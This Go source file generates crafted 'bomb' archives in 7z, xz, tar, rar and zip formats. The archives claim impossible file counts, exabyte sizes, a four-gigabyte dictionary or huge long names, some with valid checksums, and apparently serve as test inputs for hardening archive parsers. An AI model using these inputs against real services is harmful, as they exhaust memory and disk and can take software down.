package bombs

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"io"
	"strings"
)

// archives claim more files, or larger ones, than there can be.
func archives() []Bomb {
	return []Bomb{
		plain("claims-files.7z", sevenZip("\x01\x04\x06\x00\x01\x09\x80\x80\x00\x07\x0b\x01\x00\x01\x23\x03\x01\x01\x05\x5d\xff\xff\xff\xff\x0c\xff\xff\xff\xff\xff\xff\xff\xff\x7f\x00\x00\x05\xff\xff\xff\xff\xff\xff\xff\xff\x7f")),
		plain("claims-folders.7z", sevenZip("\x01\x04\x06\x00\xff\xff\xff\xff\xff\xff\xff\xff\x7f\x09")),
		plain("packed-header.7z", sevenZip("\x17\x06\x00\x01\x09\x20\x00\x07\x0b\x01\x00\x01\x23\x03\x01\x01\x05\x5d\x00\x00\x00\x80\x0c\xf0\x00\x00\x00\x80\x00\x00\x00")),
		plain("dictionary.xz", xzOf()),
		plain("claims-8-exabytes.tar", tarHead("boom", 0x1ffffffff)+strings.Repeat("\x00", 512)),
		{Name: "long-name.tar", Write: func(w io.Writer, s Size) error {
			long := []byte(tarHead("././@LongLink", s.Packed/16))
			long[156] = 'L'
			copy(long[148:], "        ")
			sum := 0
			for _, b := range long {
				sum += int(b)
			}
			copy(long[148:], octal(int64(sum), 6)+"\x00 ")
			if _, err := w.Write(long); err != nil {
				return err
			}
			return repeat(w, "boom", int(s.Packed/16/4))
		}},
		{Name: "names.tar", Write: func(w io.Writer, s Size) error { return repeat(w, tarHead("boom", 0), s.Wide/10) }},
		plain("claims.rar", "Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00"+strings.Repeat("\xff", 200)),
		plain("claims-entries.zip", "PK\x03\x04"+strings.Repeat("\x00", 100)+"PK\x06\x06\x2c\x00\x00\x00\x00\x00\x00\x00\x2d\x00\x2d\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\x7f\xff\xff\xff\xff\xff\xff\xff\x7f\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00PK\x06\x07\x00\x00\x00\x00\x68\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00"),
	}
}

// sevenZip is an archive with that header, whose checksums are right.
func sevenZip(header string) string {
	start := binary.LittleEndian.AppendUint64(nil, 32)
	start = binary.LittleEndian.AppendUint64(start, uint64(len(header)))
	start = binary.LittleEndian.AppendUint32(start, crc32.ChecksumIEEE([]byte(header)))
	out := []byte("7z\xbc\xaf\x27\x1c\x00\x04")
	out = binary.LittleEndian.AppendUint32(out, crc32.ChecksumIEEE(start))
	out = append(out, start...)
	return string(out) + strings.Repeat("\x00", 32) + header
}

// xzOf wants a dictionary of four gigabytes.
func xzOf() string {
	var b bytes.Buffer
	b.WriteString("\xfd7zXZ\x00\x00\x01")
	b.Write(binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE([]byte{0, 1})))
	block := []byte("\x02\x00\x21\x01\x28\x00\x00\x00")
	b.Write(block)
	b.Write(binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(block)))
	b.WriteString("\x01\x00\x03boom\x00")
	return b.String()
}
